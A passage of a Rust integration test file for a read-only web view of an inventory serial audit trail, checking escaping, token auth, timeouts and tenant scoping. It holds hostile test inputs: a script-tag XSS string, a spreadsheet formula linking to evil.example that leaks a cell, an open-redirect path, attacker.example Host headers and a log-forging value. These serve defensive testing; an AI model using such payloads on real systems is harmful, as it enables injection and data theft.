//! `audit serve` over HTTP, on SQLite and Postgres: each page answers with the rows the CLI
//! gives, an unknown serial is a 404 with suggestions, data is escaped, the pages cannot write,
//! and a non-loopback bind needs a token.

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use audit::store::Store;
use audit::store::query::EventFilter;
use common::*;
use inflow_simulator::Scale;
use serde_json::Value;

const HOSTILE: &str = "<script>alert(1)</script>";

/// `audit serve` on a free port; killed when dropped.
struct Server {
    child: Child,
    base: String,
}

impl Server {
    fn start(db_url: &str, args: &[&str]) -> Server {
        Server::start_with(db_url, args, &[])
    }

    fn start_with(db_url: &str, args: &[&str], envs: &[(&str, &str)]) -> Server {
        let mut child = Command::new(env!("CARGO_BIN_EXE_audit"))
            .arg("serve")
            .args(["--port", "0"])
            .args(args)
            .envs(envs.iter().copied())
            .env("AUDIT_DATABASE_URL", db_url)
            .env_remove("RUST_LOG")
            .env_remove("AUDIT_SERVE_TOKEN")
            .env_remove("INFLOW_COMPANY_ID")
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start audit serve");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).expect("read the address");
        let base = line
            .split_whitespace()
            .find(|w| w.starts_with("http://"))
            .unwrap_or_else(|| panic!("no address in {line:?}"))
            .trim_end_matches('/')
            .to_string();
        Server { child, base }
    }
}

impl Server {
    /// `host:port`, for a raw TCP client.
    fn addr(&self) -> &str {
        self.base.trim_start_matches("http://")
    }

    /// Sends SIGINT (Ctrl-C) and waits up to `within` for the exit (failing the test after it):
    /// the exit status and how long it took.
    fn interrupt(&mut self, within: Duration) -> (std::process::ExitStatus, Duration) {
        send_signal(&self.child, libc::SIGINT);
        wait_at_most(&mut self.child, within, "audit serve after Ctrl-C")
    }
}

/// Opens a connection and sends the start of a request, never its end.
fn half_a_request(server: &Server) -> TcpStream {
    let mut stream = TcpStream::connect(server.addr()).expect("connect");
    stream.write_all(b"GET /status HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ").expect("send half a request");
    stream
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn http() -> reqwest::Client {
    let _ = rustls::crypto::ring::default_provider().install_default();
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

/// GET with query parameters; returns (status, body).
async fn get(server: &Server, path: &str, query: &[(&str, &str)]) -> (u16, String) {
    let response = http().get(format!("{}{path}", server.base)).query(query).send().await.expect("request");
    let status = response.status().as_u16();
    (status, response.text().await.unwrap())
}

fn count(body: &str, needle: &str) -> usize {
    body.matches(needle).count()
}

/// The CLI's CSV as the web's downloads give it: each cell through the formula rule.
fn spreadsheet_safe(csv: &str) -> String {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    let header: Vec<&str> = header.iter().map(String::as_str).collect();
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(|c| audit::web::pages::spreadsheet_safe(c.to_string())).collect())
        .collect();
    let mut out = Vec::new();
    audit::output::write_csv(&mut out, &header, rows).unwrap();
    String::from_utf8(out).unwrap()
}

fn cli(db: &TestDb, args: &[&str]) -> (i32, String, String) {
    tokio::task::block_in_place(|| run_audit(&db.url_string(), args, &[]))
}

fn cli_json(db: &TestDb, args: &[&str]) -> Value {
    let (_, stdout, stderr) = cli(db, args);
    serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}\n{stderr}"))
}

/// The simulator's company ingested, with a stock snapshot, and one serial whose name is HTML.
async fn company(db: &TestDb) -> (inflow_simulator::Simulator, Store) {
    let sim = simulator(Scale::Small).await;
    let store = db.store().await;
    ingest(&store, &sim).await;
    let (code, _, stderr) = run_cli(db, &sim, &["snapshot"], &[]);
    assert_eq!(code, 0, "{stderr}");
    // The unit's whole story again, under a serial an inFlow user could have typed.
    exec_with(
        &store,
        "INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
         SELECT company_id, $1, product_id, doc_type, doc_id, doc_number, line_collection, line_id, event_type, \
         occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id \
         FROM serial_events WHERE serial = $2",
        &[HOSTILE, &sim.scenario().build_chain.unit.serial],
    )
    .await;
    remember_serial(&store, HOSTILE).await;
    (sim, store)
}

both_backends! {
async fn every_page_answers_with_the_rows_of_the_cli(db: TestDb) {
    let (sim, store) = company(&db).await;
    let chain = sim.scenario().build_chain;
    let server = Server::start(&db.url_string(), &[]);

    // Search: the CLI's suggestions, as links.
    let prefix = &chain.unit.serial[..chain.unit.serial.len() - 2];
    let (status, body) = get(&server, "/", &[("q", &prefix.to_lowercase())]).await;
    assert_eq!(status, 200);
    let similar = store.similar_serials(prefix, None, 50).await.unwrap();
    assert!(similar.contains(&chain.unit.serial));
    assert_eq!(count(&body, "href=\"/serial?serial="), similar.len(), "{body}");

    // Serial: one timeline row per current event, the lane, genealogy and document links.
    let serial = chain.unit.serial.as_str();
    let events = store.serial_events(serial, &EventFilter::default()).await.unwrap();
    let (status, body) = get(&server, "/serial", &[("serial", serial)]).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(count(&body, "<tr class=\"event"), events.len());
    assert!(body.contains("<svg"), "the lane is drawn");
    assert!(body.contains("with customer"), "the status card: {body}");
    // The sales order's customer by name (HTML-escaped like every value from inFlow).
    let shipped = events.iter().find(|e| e.event_type == "shipped").expect("the unit was shipped");
    let customer = shipped.party_name.as_deref().expect("the customer's name is stored");
    assert!(body.contains(&format!(" to {}", customer.replace('&', "&amp;"))), "{body}");
    assert!(body.contains("Genealogy") && body.contains(&chain.subassembly.serial));
    for doc in &chain.unit.documents {
        assert!(body.contains(&format!("href=\"/document?number={}\"", doc.number)), "{}", doc.number);
    }
    // Downloads are the CLI's own output, made spreadsheet-safe.
    let csv = http().get(format!("{}/serial", server.base)).query(&[("serial", serial), ("format", "csv")]);
    let csv = csv.send().await.unwrap().text().await.unwrap();
    assert_eq!(csv, spreadsheet_safe(&cli(&db, &["timeline", serial, "--format", "csv"]).1));
    let (_, json) = get(&server, "/serial", &[("serial", serial), ("format", "json")]).await;
    assert_eq!(serde_json::from_str::<Value>(&json).unwrap(), cli_json(&db, &["timeline", serial, "--format", "json"]));

    // An unknown serial: 404, with the CLI's suggestions.
    let (status, body) = get(&server, "/serial", &[("serial", &prefix.to_lowercase())]).await;
    assert_eq!(status, 404);
    assert!(body.contains("is not in the audit trail") && body.contains("Did you mean"), "{body}");
    assert!(body.contains(&format!("href=\"/serial?serial={}\"", chain.unit.serial)));

    // Document: every serial on it, each with its status now.
    let po = &chain.component.documents[0].number;
    let on_po = strings(
        &store,
        "SELECT DISTINCT e.serial FROM serial_events e JOIN documents d ON d.company_id = e.company_id \
         AND d.doc_type = e.doc_type AND d.doc_id = e.doc_id WHERE d.doc_number = $1 AND e.retracted_at IS NULL",
        po,
    )
    .await;
    let (status, body) = get(&server, "/document", &[("number", po)]).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(count(&body, "<tr class=\"serial\""), on_po.len());
    assert!(body.contains(&chain.component.serial) && body.contains("consumed"));
    let (status, _) = get(&server, "/document", &[("number", "NO-SUCH-DOC")]).await;
    assert_eq!(status, 404);

    // Recall from the component's PO and from the component itself reach the unit's customer.
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/sql/recall.sql");
    let param = format!("po_number={po}");
    let rows = cli_json(&db, &["sql", "--format", "json", "--file", file, "--param", &param]);
    let (status, body) = get(&server, "/recall", &[("po", po)]).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(count(&body, "<tr class=\"unit\""), rows.as_array().unwrap().len());
    assert!(body.contains(&chain.customer_id) && body.contains(&chain.unit.serial));
    let (_, csv) = get(&server, "/recall", &[("po", po), ("format", "csv")]).await;
    assert_eq!(csv, spreadsheet_safe(&cli(&db, &["sql", "--format", "csv", "--file", file, "--param", &param]).1));
    let (status, body) = get(&server, "/recall", &[("serial", &chain.component.serial)]).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(count(&body, "<tr class=\"unit\""), 3, "the component, the subassembly and the unit: {body}");
    assert!(body.contains(&chain.customer_id));

    // Anomalies and reconcile: the CLI's rows.
    let anomalies = cli_json(&db, &["anomalies", "--format", "json"]);
    let (status, body) = get(&server, "/anomalies", &[]).await;
    assert_eq!(status, 200);
    assert!(!anomalies.as_array().unwrap().is_empty(), "the simulator plants faults");
    assert_eq!(count(&body, "<tr class=\"anomaly\""), anomalies.as_array().unwrap().len());
    let disagreements = cli_json(&db, &["reconcile", "--format", "json"]);
    let (status, body) = get(&server, "/reconcile", &[]).await;
    assert_eq!(status, 200);
    assert_eq!(count(&body, "<tr class=\"disagreement\""), disagreements.as_array().unwrap().len(), "{body}");

    // Status: the runs, each stream, the budget.
    let runs = count_rows(&store, "SELECT count(*) FROM ingest_runs").await;
    let (status, body) = get(&server, "/status", &[]).await;
    assert_eq!(status, 200);
    assert_eq!(count(&body, "<tr class=\"run\""), runs.min(5) as usize);
    assert_eq!(count(&body, "<tr class=\"stream\""), 6);
    assert!(body.contains("Request budget"));

    // Headers: nothing runs, nothing is sniffed; nothing but GET.
    let response = http().get(format!("{}/status", server.base)).send().await.unwrap();
    let csp = response.headers()["content-security-policy"].to_str().unwrap().to_string();
    assert!(csp.starts_with("default-src 'none'"), "{csp}");
    assert_eq!(response.headers()["x-content-type-options"], "nosniff");
    let post = http().post(format!("{}/serial", server.base)).body("serial=x").send().await.unwrap();
    assert_eq!(post.status().as_u16(), 405);
    let (status, _) = get(&server, "/sql", &[("q", "DELETE FROM serial_events")]).await;
    assert_eq!(status, 404, "there is no SQL box");
}
}

async fn count_rows(store: &Store, sql: &'static str) -> i64 {
    common::count(store, sql).await
}

both_backends! {
async fn a_serial_that_is_html_is_shown_as_text(db: TestDb) {
    let (_sim, store) = company(&db).await;
    let server = Server::start(&db.url_string(), &[]);
    let events = store.serial_events(HOSTILE, &EventFilter::default()).await.unwrap();
    assert!(!events.is_empty());
    for (path, query) in
        [("/serial", vec![("serial", HOSTILE)]), ("/", vec![("q", "<script>")]), ("/anomalies", vec![])]
    {
        let (status, body) = get(&server, path, &query).await;
        assert_eq!(status, 200, "{path}");
        assert!(!body.contains("<script"), "{path} lets the serial's markup through");
        if path != "/anomalies" {
            assert!(body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{path}: {body}");
        }
    }
    let (_, body) = get(&server, "/serial", &[("serial", HOSTILE)]).await;
    assert_eq!(count(&body, "<tr class=\"event"), events.len());
    // The lane's labels and titles are escaped too.
    assert!(body.contains("<svg") && !body.contains("<script"));
}
}

both_backends! {
async fn where_it_was_on_a_date_follows_the_current_rule(db: TestDb) {
    let (sim, store) = company(&db).await;
    let unit = sim.scenario().build_chain.unit;
    let events = store.serial_events(&unit.serial, &EventFilter::default()).await.unwrap();
    let picked =
        events.iter().find(|e| e.event_type == "picked").and_then(|e| e.occurred_at).expect("the unit was sold");
    let shipped =
        events.iter().find(|e| e.event_type == "shipped").and_then(|e| e.occurred_at).expect("the unit was shipped");
    // Before the pick it was in stock; picked until it shipped; then with the customer.
    let before = store.serial_on(&unit.serial, None, picked - chrono::Duration::seconds(1)).await.unwrap();
    assert_eq!(before[0].now.status.as_str(), "in_stock");
    let after = store.serial_on(&unit.serial, None, picked).await.unwrap();
    assert_eq!(after[0].now.status.as_str(), if shipped <= picked { "with_customer" } else { "picked" });
    let after = store.serial_on(&unit.serial, None, shipped.max(picked)).await.unwrap();
    assert_eq!(after[0].now.status.as_str(), "with_customer");
    let first = events.iter().filter_map(|e| e.occurred_at).min().unwrap();
    assert!(store.serial_on(&unit.serial, None, first - chrono::Duration::days(1)).await.unwrap().is_empty());
    // With every event by then, it is the serial_current view's answer, for every serial.
    let far = chrono::Utc::now() + chrono::Duration::days(3650);
    // (An undated event with no date to borrow counts as the latest in the view, and as not yet
    // happened on a date: those serials are left out of the comparison.)
    let serials = strings(
        &store,
        "SELECT DISTINCT serial FROM serial_current WHERE serial <> $1 AND serial NOT IN \
         (SELECT serial FROM serial_events_effective WHERE effective_at IS NULL) ORDER BY serial",
        "",
    )
    .await;
    for serial in serials.iter().step_by(7) {
        let current =
            strings(&store, "SELECT status FROM serial_current WHERE serial = $1 ORDER BY product_id", serial).await;
        let on: Vec<String> = store
            .serial_on(serial, None, far)
            .await
            .unwrap()
            .iter()
            .map(|h| h.now.status.as_str().to_string())
            .collect();
        assert_eq!(on, current, "{serial}");
    }
    // Over HTTP, ?on=DATE is the end of that local day.
    let server = Server::start(&db.url_string(), &[]);
    let day_before = (picked.with_timezone(&chrono::Local).date_naive() - chrono::Duration::days(1)).to_string();
    let (status, body) = get(&server, "/serial", &[("serial", &unit.serial), ("on", &day_before)]).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("in stock") && body.contains("As it stood at the end of"), "{body}");
    let (status, _) = get(&server, "/serial", &[("serial", &unit.serial), ("on", "yesterday")]).await;
    assert_eq!(status, 400);
}
}

both_backends! {
async fn the_pages_read_through_a_connection_that_cannot_write(db: TestDb) {
    db.store().await.close().await;
    let (store, guard) = Store::connect_read_only(&db.url).await.expect("read-only store");
    let delete = "DELETE FROM serial_events";
    let result = match store.sqlite_pool() {
        Some(pool) => sqlx::query(delete).execute(pool).await.map(|_| ()),
        None => sqlx::query(delete).execute(store.postgres_pool().unwrap()).await.map(|_| ()),
    };
    let err = result.expect_err("a read-only connection refuses writes").to_string();
    assert!(
        err.contains("readonly") || err.contains("read-only") || err.contains("permission denied"),
        "{err} ({guard})"
    );
}
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_non_loopback_bind_needs_a_token_which_a_browser_gives_once() {
    let db = TestDb::sqlite().await;
    db.store().await.close().await;
    let (code, stdout, stderr) = run_audit(&db.url_string(), &["serve", "--bind", "0.0.0.0", "--port", "0"], &[]);
    assert_eq!(code, 2, "{stdout}");
    assert!(stderr.contains("refusing to serve on 0.0.0.0 without a token"), "{stderr}");
    assert!(stdout.is_empty());

    let server = Server::start(&db.url_string(), &["--bind", "0.0.0.0", "--token", "s3cret"]);
    let port = server.base.rsplit(':').next().unwrap().to_string();
    let base = format!("http://127.0.0.1:{port}");
    let status = |r: &reqwest::Response| r.status().as_u16();
    let r = http().get(format!("{base}/status")).send().await.unwrap();
    assert_eq!(status(&r), 401);
    assert!(r.headers().contains_key("content-security-policy"));
    let r = http().get(format!("{base}/status")).bearer_auth("wrong").send().await.unwrap();
    assert_eq!(status(&r), 401);
    let r = http().get(format!("{base}/status")).bearer_auth("s3cret").send().await.unwrap();
    assert_eq!(status(&r), 200);
    // ?token= sets an HttpOnly cookie and sends the browser to the same page without it.
    let r = http().get(format!("{base}/serial?serial=A%26B&token=s3cret")).send().await.unwrap();
    assert_eq!(status(&r), 303);
    assert_eq!(r.headers()["location"], "/serial?serial=A%26B");
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(cookie.contains("HttpOnly") && !cookie.contains("s3cret"), "{cookie}");
    let pair = cookie.split(';').next().unwrap().to_string();
    let r = http().get(format!("{base}/status")).header("cookie", &pair).send().await.unwrap();
    assert_eq!(status(&r), 200);
    let r = http().get(format!("{base}/status?token=wrong")).send().await.unwrap();
    assert_eq!(status(&r), 401);
    // The redirect stays on this server.
    let r = http().get(format!("{base}//evil.example/?token=s3cret")).send().await.unwrap();
    assert_eq!(status(&r), 303);
    assert_eq!(r.headers()["location"], "/evil.example/");
    // The scheme's case does not matter (RFC 7235).
    for scheme in ["bearer", "BEARER"] {
        let r = http().get(format!("{base}/status")).header("authorization", format!("{scheme} s3cret")).send();
        assert_eq!(status(&r.await.unwrap()), 200, "{scheme}");
    }
}

/// Copies the history of `from` under the serial `to` (as an inFlow user could have typed it).
async fn copy_serial(store: &Store, from: &str, to: &str) {
    exec_with(
        store,
        "INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
         SELECT company_id, $1, product_id, doc_type, doc_id, doc_number, line_collection, line_id, event_type, \
         occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id \
         FROM serial_events WHERE serial = $2",
        &[to, from],
    )
    .await;
    remember_serial(store, to).await;
}

/// Events the big serial gets, in transfers an hour apart, each on a document of its own.
const BIG_EVENTS: usize = 6000;

both_backends! {
async fn a_serial_with_thousands_of_events_makes_a_bounded_page(db: TestDb) {
    let (sim, store) = company(&db).await;
    let source = sim.scenario().build_chain.unit.serial;
    let sqlite = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000) \
         INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
         SELECT s.company_id, $1, s.product_id, 'stock_transfer', 'ST-' || n.i, 'ST-' || n.i, 'lines', 'l' || n.i, \
         CASE WHEN n.i % 2 = 0 THEN 'transfer_received' ELSE 'transfer_sent' END, \
         strftime('%Y-%m-%dT%H:%M:%S+00:00', s.occurred_at, '+' || n.i || ' hours'), s.location_id, NULL, \
         CASE WHEN n.i % 2 = 0 THEN 1 ELSE -1 END, s.doc_status, s.observed_at, s.run_id \
         FROM n, (SELECT * FROM serial_events WHERE serial = $2 AND location_id IS NOT NULL AND occurred_at IS NOT NULL LIMIT 1) s";
    let postgres = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000) \
         INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
         SELECT s.company_id, $1, s.product_id, 'stock_transfer', 'ST-' || n.i, 'ST-' || n.i, 'lines', 'l' || n.i, \
         CASE WHEN n.i % 2 = 0 THEN 'transfer_received' ELSE 'transfer_sent' END, \
         s.occurred_at + make_interval(hours => n.i), s.location_id, NULL, \
         CASE WHEN n.i % 2 = 0 THEN 1 ELSE -1 END, s.doc_status, s.observed_at, s.run_id \
         FROM n, (SELECT * FROM serial_events WHERE serial = $2 AND location_id IS NOT NULL AND occurred_at IS NOT NULL LIMIT 1) s";
    let insert = if store.sqlite_pool().is_some() { sqlite } else { postgres };
    exec_with(&store, insert, &["BIG-1", &source]).await;
    let events = store.serial_events("BIG-1", &EventFilter::default()).await.unwrap();
    assert_eq!(events.len(), BIG_EVENTS);

    let server = Server::start(&db.url_string(), &[]);
    // Two requests for the big page at once, and another page meanwhile.
    let big = || get(&server, "/serial", &[("serial", "BIG-1")]);
    let (a, b, status) = tokio::join!(big(), big(), async {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        get(&server, "/status", &[]).await
    });
    assert_eq!(status.0, 200, "another page answers");
    for (code, body) in [a, b] {
        assert_eq!(code, 200);
        assert_eq!(count(&body, "<tr class=\"event"), audit::web::pages::MAX_TIMELINE_ROWS, "the latest events only");
        assert!(
            body.contains(&format!("The latest 1000 of {BIG_EVENTS} events; the {} older ones", BIG_EVENTS - 1000))
        );
        assert!(body.contains("href=\"/serial?serial=BIG-1&amp;format=csv\""), "a link to the whole history");
        // The lane: one mark per pixel column and kind, not one per event.
        let marks = count(&body, "class=\"mark ");
        assert!(marks > 100 && marks < 1000, "{marks} marks");
        assert!(body.contains("too close together to tell apart are drawn as one"));
        assert!(body.len() < 1_500_000, "the page is {} bytes", body.len());
    }
    // The downloads have every event.
    let (code, csv) = get(&server, "/serial", &[("serial", "BIG-1"), ("format", "csv")]).await;
    assert_eq!(code, 200);
    assert_eq!(csv.lines().count(), BIG_EVENTS + 1);
}
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const BIDI: &str = "SN-\u{202e}1234\u{202c}-OK";

/// The company, with a serial that is a formula and one with a right-to-left override, served
/// for that company only.
async fn hostile(db: &TestDb) -> (inflow_simulator::Simulator, Store, Server) {
    let (sim, store) = company(db).await;
    let chain = sim.scenario().build_chain;
    copy_serial(&store, &chain.unit.serial, FORMULA).await;
    copy_serial(&store, &chain.unit.serial, BIDI).await;
    let server = Server::start(&db.url_string(), &["--company-id", &sim.company_id()]);
    (sim, store, server)
}

both_backends! {
async fn a_formula_in_a_csv_download_is_text(db: TestDb) {
    let (_sim, _store, server) = hostile(&db).await;

    // A formula in a serial is text in the web's CSV (numbers stay numbers); the CLI's is exact.
    let (code, csv) = get(&server, "/serial", &[("serial", FORMULA), ("format", "csv")]).await;
    assert_eq!(code, 200);
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains(",-1,"), "a quantity of -1 is left as a number: {csv}");
    let cells = csv::Reader::from_reader(csv.as_bytes());
    for record in cells.into_records() {
        for cell in &record.unwrap() {
            assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
            assert!(!cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
    }
    let exact = cli(&db, &["timeline", FORMULA, "--format", "csv"]).1;
    assert!(exact.contains("\"=HYPERLINK("), "{exact}");
}
}

both_backends! {
async fn a_bidi_override_is_shown_escaped(db: TestDb) {
    let (_sim, _store, server) = hostile(&db).await;
    // Bidirectional overrides are shown as the terminal shows them.
    let (code, body) = get(&server, "/", &[("q", "SN-\u{202e}")]).await;
    assert_eq!(code, 200);
    assert!(body.contains(">SN-\\u{202e}1234\\u{202c}-OK</a>"), "{body}");
    assert!(!body.contains(">SN-\u{202e}"), "only the search box keeps what was typed");
    let (code, body) = get(&server, "/serial", &[("serial", BIDI)]).await;
    assert_eq!(code, 200);
    assert!(!body.contains("<h1>Serial SN-\u{202e}") && body.contains("SN-\\u{202e}1234"), "{body}");
}
}

both_backends! {
async fn a_control_character_in_a_parameter_is_a_bad_request(db: TestDb) {
    let (_sim, _store, server) = hostile(&db).await;
    // A NUL or a line break in a parameter: 400 on both databases, never a database error.
    for (path, name) in [("/serial", "serial"), ("/document", "number"), ("/", "q"), ("/recall", "po")] {
        let (code, body) = get(&server, path, &[(name, "A\0B\n2026-01-01 INFO forged")]).await;
        assert_eq!(code, 400, "{path}: {body}");
        assert!(body.contains("control character") && !body.contains("database"), "{path}: {body}");
    }
}
}

both_backends! {
async fn without_a_token_another_host_name_is_refused(db: TestDb) {
    let (_sim, _store, server) = hostile(&db).await;
    // Reached under another name (DNS rebinding), a token-less server refuses.
    let port = server.base.rsplit(':').next().unwrap().to_string();
    let with_host = |host: String| http().get(format!("{}/status", server.base)).header("host", host).send();
    assert_eq!(with_host(format!("attacker.example:{port}")).await.unwrap().status().as_u16(), 421);
    assert_eq!(with_host("attacker.example".into()).await.unwrap().status().as_u16(), 421);
    assert_eq!(with_host(format!("localhost:{port}")).await.unwrap().status().as_u16(), 200);
    assert_eq!(with_host(format!("127.0.0.1:{port}")).await.unwrap().status().as_u16(), 200);
}
}

both_backends! {
async fn with_company_id_recall_shows_no_other_company(db: TestDb) {
    let (sim, store, server) = hostile(&db).await;
    let chain = sim.scenario().build_chain;
    // --company-id: recall answers while the database holds that company only...
    let po = &chain.component.documents[0].number;
    let (code, body) = get(&server, "/recall", &[("po", po)]).await;
    assert_eq!(code, 200, "{body}");
    assert!(body.contains(&chain.unit.serial));
    // ... and is refused once another company has serials on a PO of the same number, because
    // the shipped query would list them.
    exec_with(
        &store,
        "INSERT INTO documents (company_id, doc_type, doc_id, doc_number, raw, first_seen_at, first_run_id, \
         changed_at, changed_run_id, last_seen_at, last_seen_run_id) SELECT 'OTHER-CO', doc_type, doc_id, doc_number, \
         raw, first_seen_at, first_run_id, changed_at, changed_run_id, last_seen_at, last_seen_run_id \
         FROM documents WHERE doc_number = $1",
        &[po],
    )
    .await;
    exec_with(
        &store,
        "INSERT INTO serial_events (company_id, serial, product_id, doc_type, doc_id, doc_number, line_collection, \
         line_id, event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id) \
         SELECT 'OTHER-CO', 'OTHERCO-SECRET-1', product_id, doc_type, doc_id, doc_number, line_collection, line_id, \
         event_type, occurred_at, location_id, sublocation, quantity_delta, doc_status, observed_at, run_id \
         FROM serial_events WHERE doc_number = $1 AND serial = $2",
        &[po, &chain.component.serial],
    )
    .await;
    let unscoped = cli_json(
        &db,
        &[
            "sql",
            "--format",
            "json",
            "--file",
            concat!(env!("CARGO_MANIFEST_DIR"), "/sql/recall.sql"),
            "--param",
            &format!("po_number={po}"),
        ],
    );
    assert!(unscoped.to_string().contains("OTHERCO-SECRET-1"), "the shipped query covers every company");
    for format in ["html", "csv", "json"] {
        let (code, body) = get(&server, "/recall", &[("po", po), ("format", format)]).await;
        assert_eq!(code, 403, "{format}: {body}");
        assert!(!body.contains("OTHERCO") && body.contains("--company-id"), "{body}");
    }
    let (code, body) = get(&server, "/document", &[("number", po)]).await;
    assert_eq!(code, 200);
    assert!(!body.contains("OTHERCO"));
}
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_empty_token_is_refused_not_taken_for_none() {
    let db = TestDb::sqlite().await;
    db.store().await.close().await;
    for (args, env) in [
        (vec!["serve", "--port", "0", "--token", ""], vec![]),
        (vec!["serve", "--port", "0", "--token", "  "], vec![]),
        (vec!["serve", "--port", "0"], vec![("AUDIT_SERVE_TOKEN", "")]),
    ] {
        let (code, stdout, stderr) = run_audit(&db.url_string(), &args, &env);
        assert_eq!(code, 2, "{args:?} {env:?}: {stdout}");
        assert!(stderr.contains("is empty or only spaces"), "{stderr}");
        assert!(stdout.is_empty());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_never_finishes_its_request_is_disconnected() {
    let db = TestDb::sqlite().await;
    db.store().await.close().await;
    let server = Server::start_with(&db.url_string(), &[], &[("AUDIT_SERVE_LIMITS", "headers=500")]);
    let mut stalled = half_a_request(&server);
    stalled.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    // Meanwhile the view answers others.
    assert_eq!(get(&server, "/status", &[]).await.0, 200);
    let started = Instant::now();
    let mut answer = Vec::new();
    stalled.read_to_end(&mut answer).expect("the server closes the connection, not the read timeout");
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(started.elapsed() < Duration::from_secs(5), "closed after {:?}", started.elapsed());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ctrl_c_stops_serve_while_a_client_holds_half_a_request() {
    let db = TestDb::sqlite().await;
    db.store().await.close().await;
    let mut server = Server::start_with(&db.url_string(), &[], &[("AUDIT_SERVE_LIMITS", "headers=1000")]);
    let _stalled = half_a_request(&server);
    // A keep-alive connection that finished its request, idle too.
    let client = http();
    let status = client.get(format!("{}/status", server.base)).send().await.unwrap().status();
    assert_eq!(status, 200);
    std::thread::sleep(Duration::from_millis(200));
    let (status, _) = server.interrupt(Duration::from_secs(8));
    assert!(status.success(), "{status}");
}

/// Postgres: another session holds `serial_events` locked, so every page that reads it waits.
/// With a 2-second limit, 9 pages asked at once are all answered 503 (8 are built at once: the
/// ninth waited for its turn, which its message says); the server cancels their statements; the
/// view answers again once the lock is gone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_not_ready_within_the_time_limit_is_answered_503_and_its_query_cancelled() {
    use sqlx::{Connection, Executor};
    let Some(db) = TestDb::postgres().await else { return };
    let (sim, store) = company(&db).await;
    let serial = sim.scenario().build_chain.unit.serial.clone();
    let server = Server::start(&db.url_string(), &["--time-limit", "2"]);
    assert_eq!(get(&server, "/serial", &[("serial", &serial)]).await.0, 200);

    let mut holder = sqlx::PgConnection::connect(db.url.expose()).await.unwrap();
    holder.execute("BEGIN; LOCK TABLE serial_events IN ACCESS EXCLUSIVE MODE").await.unwrap();
    let started = Instant::now();
    let pages: Vec<_> = (0..9)
        .map(|_| {
            let (server, serial) = (server.base.clone(), serial.clone());
            tokio::spawn(async move {
                let response =
                    http().get(format!("{server}/serial")).query(&[("serial", &serial)]).send().await.unwrap();
                let retry = response.headers().get("retry-after").is_some();
                (response.status().as_u16(), retry, response.text().await.unwrap())
            })
        })
        .collect();
    // Each page is answered 503 at its deadline: the first 8 got a turn at once; the ninth
    // waited for one, and found none (the 8 keep theirs until their statements end).
    let mut waited = Vec::new();
    let mut busy = 0;
    for page in pages {
        let (status, retry, body) = page.await.unwrap();
        assert_eq!(status, 503, "{body}");
        assert!(retry, "503 without Retry-After");
        if body.contains("The view is busy: 8 pages") {
            busy += 1;
            continue;
        }
        assert!(body.contains("not ready within 2 s"), "{body}");
        let secs = body.split("not ready within 2 s (").nth(1).and_then(|t| t.split(' ').next()).unwrap();
        waited.push(secs.parse::<f64>().unwrap());
    }
    assert!(started.elapsed() < Duration::from_secs(5), "answered after {:?}", started.elapsed());
    waited.sort_by(f64::total_cmp);
    assert!(waited.len() >= 8 && waited[7] < 0.5, "8 pages at once: {waited:?}");
    assert!(busy == 1 || waited.get(8).is_some_and(|w| *w >= 1.0), "the ninth waits for a turn: {waited:?}");

    // The server cancels every statement that waited (statement_timeout), the 4 holding the
    // pool's connections first, then the 4 that waited for one.
    let waiting = "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() \
                   AND wait_event_type = 'Lock' AND pid <> pg_backend_pid()";
    let mut left = i64::MAX;
    for _ in 0..100 {
